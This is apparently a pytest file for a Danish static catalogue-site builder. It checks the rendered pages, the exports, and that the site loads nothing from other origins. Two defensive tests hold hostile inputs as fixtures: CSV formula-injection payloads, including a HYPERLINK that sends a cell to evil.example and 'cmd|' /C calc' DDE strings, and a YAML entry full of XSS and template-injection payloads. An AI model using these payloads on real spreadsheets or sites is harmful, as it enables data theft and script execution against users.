"""The whole path content/ -> site/: pages, completeness of the rendered initiative, export, no third parties,
invalid content publishes nothing."""
from __future__ import annotations

import html as htmllib
import json
import re
import subprocess
from pathlib import Path

import jsonschema
import pytest

from conftest import ENV, PY, ROOT, build, make_project
from catalogue.model.schema import walk_texts
from catalogue.core.text import plain


def page_text(path: Path) -> str:
    raw = path.read_text(encoding="utf-8")
    body = re.sub(r"<(script|style)\b.*?</\1>", " ", raw, flags=re.S)
    body = re.sub(r"</?(a|strong|em|b|i|span|code|abbr|cite|time|sup|sub)\b[^>]*>", "", body)
    return " ".join(htmllib.unescape(re.sub(r"<[^>]+>", " ", body)).split())


def test_page_kinds_exist(built_site, catalogue):
    for rel in ("index.html", "indsatser/index.html", "404.html", "om-kilderne/index.html", "redaktoerer/index.html",
                "felter/index.html", "data/catalogue.json", "data/catalogue.csv", "data/vocabularies.json",
                "data/schema/initiative.json", "data/schema/catalogue.json"):
        assert (built_site / rel).is_file(), rel
    for entry in catalogue.entries.values():
        assert (built_site / catalogue.url_of(entry) / "index.html").is_file()
    for listing in ("indsatser", "drejeboeger", "arbejdsark"):
        assert (built_site / listing / "index.html").is_file()


@pytest.mark.parametrize("entry_id", ["dialogisk-laesning", "tryghed-i-overgangen", "socialraadgivere-i-dagtilbud",
                                      "elevfravaer", "robusthed", "omsorgsgrebet"])
def test_every_text_of_the_yaml_is_on_the_page(built_site, catalogue, entry_id):
    entry = catalogue.entries[entry_id]
    text = page_text(built_site / "indsatser" / entry_id / "index.html")
    missing = []
    for path, value in walk_texts(entry):
        if path[-1] in ("id", "ejer", "niveau", "status", "type", "moedeform", "url") or path[0] in ("facetter", "relaterede"):
            continue
        if " ".join(plain(value).split()) not in text:
            missing.append((path, value[:60]))
    assert not missing, missing[:10]


def test_initiative_page_has_overview_quotes_cases_and_source(built_site):
    html = (built_site / "indsatser/dialogisk-laesning/index.html").read_text(encoding="utf-8")
    for needle in ("Skematisk overblik", "Hvorfor?", "For hvem?", "Hvordan?", "Derfor!", 'class="ik-quote"',
                   'class="ik-case"', "Inspirationskatalog om mønsterbrydning og social mobilitet", "Kilder",
                   "Relaterede poster", 'lang="da"', "Tilgængelighedserklæring"):
        assert needle in html, needle
    assert html.count('class="ik-quote"') == 12  # 6 CITAT boxes + 6 quotes inside the 4 cases of the source
    assert html.count('<aside class="ik-case"') == 4


def test_front_page_shows_featured_overview_and_cards(built_site, catalogue):
    html = (built_site / "index.html").read_text(encoding="utf-8")
    initiatives = catalogue.of_kind("initiative")
    assert 'id="overblik-dialogisk-laesning"' in html and 'href="indsatser/"' in html  # featured; the tile
    listing = (built_site / "indsatser/index.html").read_text(encoding="utf-8")
    assert listing.count('class="ik-card"') == len(initiatives)
    assert 'href="dialogisk-laesning/"' in listing


def test_front_page_cards_stop_at_hoejst_with_a_link_to_all(tmp_path):
    """{{ kort('initiative', hoejst=N) }}: the first N cards by title, then 'Se alle …' to the full listing (a
    national catalogue's front page must not list 5,000 entries)."""
    project = make_project(tmp_path / "p")
    index = project / "content/sider/index.md"
    index.write_text(index.read_text(encoding="utf-8") + "\n## Indsatser\n\n{{ kort('initiative', hoejst=2) }}\n",
                     encoding="utf-8")
    result = build(project, env={**ENV, "KATALOG_PDF": "0", "KATALOG_SEARCH": "0"})
    assert result.returncode == 0, result.stderr[-2000:]
    html = (project / "site/index.html").read_text(encoding="utf-8")
    cards = re.findall(r'<h3 class="ik-card-title"><a href="([^"]+)">', html)
    from catalogue.load.loader import load
    first = [f"indsatser/{e.id}/" for e in load(project).of_kind("initiative")[:2]]
    assert cards == first
    assert '<p class="ik-see-all"><a href="indsatser/">Se alle 6</a></p>' in html
    # a misspelt kind stops the build with the names there are, not an empty list of cards
    index.write_text(index.read_text(encoding="utf-8").replace("kort('initiative'", "kort('indsats'"), encoding="utf-8")
    result = build(project, env={**ENV, "KATALOG_PDF": "0", "KATALOG_SEARCH": "0"})
    assert result.returncode != 0 and "ukendt slags poster 'indsats'" in result.stderr, result.stderr[-2000:]
    assert "initiative, workshop" in result.stderr


def test_danish_404(built_site):
    text = page_text(built_site / "404.html")
    assert "Siden findes ikke" in text and "Not found" not in text


def test_navigation_does_not_list_entries(built_site, catalogue):
    html = (built_site / "indsatser/robusthed/index.html").read_text(encoding="utf-8")
    nav = html[html.index('md-nav--primary'):html.index('</nav>', html.index('md-nav--primary'))]
    for entry_id in catalogue.entries:
        assert f"indsatser/{entry_id}/" not in nav and f"../{entry_id}/" not in nav


def test_nothing_is_fetched_from_another_origin(built_site):
    fetching = re.compile(r"""<(?:script|img|link(?![^>]*rel="(?:canonical|alternate)")|iframe|source|audio|video)\b"""
                          r"""[^>]*?\b(?:src|href)=["']?(https?:)?//""", re.I)
    for path in built_site.rglob("*"):
        if path.suffix in (".html", ".css"):
            text = path.read_text(encoding="utf-8", errors="replace")
            assert not fetching.search(text), path
            if path.suffix == ".css":
                assert not re.search(r"url\(\s*['\"]?(https?:)?//", text), path
            assert "fonts.googleapis" not in text and "api.github.com" not in text, path


def test_export_matches_contract(built_site, catalogue):
    data = json.loads((built_site / "data/catalogue.json").read_text(encoding="utf-8"))
    schema = json.loads((built_site / "data/schema/catalogue.json").read_text(encoding="utf-8"))
    jsonschema.validate(data, schema)
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", data["generated"])
    assert {e["id"] for e in data["entries"]} == set(catalogue.entries)
    vocab = json.loads((built_site / "data/vocabularies.json").read_text(encoding="utf-8"))
    assert {e["type"] for e in data["entries"]} == {"initiative", "workshop", "worksheet", "learning-pack", "programme"}
    for e in data["entries"]:
        assert (built_site / e["url"] / "index.html").is_file()
        assert e["type"] == catalogue.kind_of(catalogue.entries[e["id"]]).name
        assert e["pdf"] == f'{e["url"]}{e["id"]}.pdf' and (built_site / e["pdf"]).is_file()
        for facet, values in e["facets"].items():
            ids = {v["id"] for v in vocab[facet]["values"]}
            assert set(values) <= ids
    # a theme's description and the staff's search words for it travel with the vocabulary (issue 28)
    for vid, v in catalogue.vocabularies.items():
        for x, out in zip(v.values, vocab[vid]["values"], strict=True):
            assert out.get("search_words", []) == list(x.search_words) and out.get("description") == x.description
    assert any(out.get("search_words") for v in vocab.values() for out in v["values"])
    rows = (built_site / "data/catalogue.csv").read_text(encoding="utf-8").splitlines()
    assert rows[0].startswith("id,type,title,summary,url,pdf") and len(rows) == len(data["entries"]) + 1


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    """Issue 26 (OWASP, CSV injection): a cell of catalogue.csv starting with = + - @, a tab or a carriage return
    gets a single quote in front, so Excel or LibreOffice shows it as text instead of running it."""
    import csv
    import io
    from catalogue.load.loader import load
    from catalogue.outputs.export import catalogue_csv, catalogue_json
    project = make_project(tmp_path / "p")
    path = project / "content/indsatser/robusthed.yml"
    text = path.read_text(encoding="utf-8")
    title = re.search(r"(?m)^titel: (.*)$", text).group(1)
    hostile = {"=": '=HYPERLINK("https://evil.example/?"&A1;"klik")', "+": "+1+cmd|' /C calc'!A0", "-": "-2+3",
               "@": "@SUM(1+1)*cmd|' /C calc'!A0", "\t": "\t=1+1", "\r": "\r=1+1"}
    for start, value in hostile.items():
        path.write_text(text.replace(f"titel: {title}", f"titel: {json.dumps(value)}", 1), encoding="utf-8")
        cat = load(project)
        assert cat.report.ok, [d.format() for d in cat.report.errors]
        rows = {r["id"]: r for r in csv.DictReader(io.StringIO(catalogue_csv(catalogue_json(cat))))}
        shown = " ".join(value.split()) if start in "\t\r" else value  # a one-line title: the loader folds blanks
        assert rows["robusthed"]["title"] == ("'" + shown if shown.startswith(("=", "+", "-", "@", "\t", "\r")) else shown)
        for row in rows.values():
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
    # an ordinary cell is left as it is; a tab or CR first (a summary keeps them) is neutralised as well
    assert rows["dialogisk-laesning"]["id"] == "dialogisk-laesning"
    from catalogue.outputs.export import csv_cell
    assert [csv_cell(v) for v in ("\t=1", "\r=1", "a=1", "", None, "2026-01-01")] == ["'\t=1", "'\r=1", "a=1", "", "", "2026-01-01"]


def test_content_files_validate_against_published_schema(built_site, catalogue):
    import yaml
    for entry in catalogue.entries.values():
        kind = catalogue.kind_of(entry)
        schema = json.loads((built_site / f"data/schema/{kind.name}.json").read_text(encoding="utf-8"))
        doc = yaml.safe_load((ROOT / catalogue.provenance[entry.id].path).read_text(encoding="utf-8"))
        doc = json.loads(json.dumps(doc, default=str))
        jsonschema.validate(doc, schema)


def test_invalid_content_publishes_nothing(tmp_path):
    project = make_project(tmp_path / "p")
    bad = project / "content/indsatser/dialogisk-laesning.yml"
    bad.write_text(bad.read_text(encoding="utf-8").replace("\nresume:", "\nresumee:", 1), encoding="utf-8")
    result = build(project)
    assert result.returncode == 1
    assert re.search(r"content/indsatser/dialogisk-laesning\.yml:\d+:1: error: ukendt felt 'resumee' — mente du 'resume'\?",
                     result.stderr)
    assert not (project / "site").exists()


HOSTILE = """\
id: fjendtlig
titel: "Dialogisk {{ config.site_name }} {% raw %}<script>alert(1)</script>"
resume: "[klik](javascript:alert(1)) [data](data:text/html,x) [vb](vbscript:x) <img src=x onerror=alert(2)> <iframe src=https://evil.example></iframe>"
ejer: frederiksberg-kommune
citater:
  - tekst: "<a href='javascript:alert(3)' onclick='x()'>se her</a> {%- include 'x' %}"
    rolle: "<b onmouseover=alert(4)>Leder</b>"
kilder:
  - titel: Kilde
    udgiver: Udgiver
"""


def test_hostile_text_is_shown_literally(tmp_path):
    project = make_project(tmp_path / "p")
    (project / "content/indsatser/fjendtlig.yml").write_text(HOSTILE, encoding="utf-8")
    result = build(project)
    assert result.returncode == 0, result.stderr[-2000:]
    html = (project / "site/indsatser/fjendtlig/index.html").read_text(encoding="utf-8")
    assert "Dialogisk {{ config.site_name }} {% raw %}&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;b onmouseover=alert(4)&gt;Leder&lt;/b&gt;" in html and "{%- include 'x' %}" in html
    for bad in ("<script>alert", "javascript:", "vbscript:", "data:text", "onerror", "onclick", "<iframe", "evil.example"):
        assert bad not in html, bad
    data = (project / "site/data/catalogue.json").read_text(encoding="utf-8")
    assert "javascript:" not in data and "onerror" not in data


def test_check_json(tmp_path):
    project = make_project(tmp_path / "p")
    f = project / "content/indsatser/robusthed.yml"
    f.write_text(f.read_text(encoding="utf-8") + "ukendt: 1\n", encoding="utf-8")
    out = subprocess.run([PY, "-m", "catalogue.cli.check", "--json", "--root", str(project)], env=ENV,
                         capture_output=True, text=True)
    assert out.returncode == 1
    diags = json.loads(out.stdout)
    errors = [d for d in diags if d["severity"] == "error"]
    assert len(errors) == 1 and errors[0]["path"] == "content/indsatser/robusthed.yml"
    assert errors[0]["message"] == "ukendt felt 'ukendt'"
    assert set(errors[0]) == {"path", "line", "column", "severity", "message", "hint"}
